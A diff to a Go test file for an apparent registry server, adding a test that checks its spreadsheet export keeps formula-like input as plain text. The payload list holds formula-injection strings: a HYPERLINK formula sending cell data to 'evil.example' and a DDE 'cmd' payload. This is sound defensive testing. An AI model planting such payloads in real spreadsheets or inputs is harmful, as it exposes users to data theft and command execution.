@@ -1,15 +1,18 @@
 package server_test
 
 import (
+	"bytes"
 	"encoding/json"
 	"fmt"
 	"io"
 	"net/http"
 	"net/url"
+	"slices"
 	"strings"
 	"testing"
 
 	"github.com/labstack/echo/v4"
+	"github.com/xuri/excelize/v2"
 
 	"critreg/server"
 )
@@ -134,5 +137,43 @@ func TestHostileText(t *testing.T) {
 		if strings.HasPrefix(resp.Header.Get("Content-Type"), "text/html") && rawMarkup(b) {
 			t.Errorf("page %s shows unescaped markup", r.Path)
 		}
+	}
+}
+
+// TestExportNoFormulas: text that looks like a spreadsheet formula comes back in the
+// workbook export as text, never as a formula a spreadsheet would run.
+func TestExportNoFormulas(t *testing.T) {
+	e := newEnv(t)
+	payloads := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `+cmd|' /C calc'!A0`, `-2+3`, `@SUM(1+1)`, `=1+1`}
+	for i, p := range payloads {
+		body, _ := json.Marshal(map[string]any{"network_id": e.netA, "critical_part": "2.1", "kind": "equipment", "name": p, "notes": p, "serial": fmt.Sprintf("F%d", i)})
+		e.do("alice", "POST", "/api/v1/items", string(body), 201, nil)
+	}
+	raw := e.do("alice", "GET", "/api/v1/operators/OPA/annex7.xlsx", "", 200, nil)
+	wb, err := excelize.OpenReader(bytes.NewReader(raw))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer wb.Close()
+	found := 0
+	for _, sheet := range wb.GetSheetList() {
+		rows, err := wb.GetRows(sheet)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for r, row := range rows {
+			for c, v := range row {
+				cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
+				if f, _ := wb.GetCellFormula(sheet, cell); f != "" {
+					t.Errorf("%s!%s holds the formula %q", sheet, cell, f)
+				}
+				if slices.Contains(payloads, v) {
+					found++
+				}
+			}
+		}
+	}
+	if found < len(payloads) {
+		t.Errorf("found %d of the %d payloads as text in the export", found, len(payloads))
 	}
 }
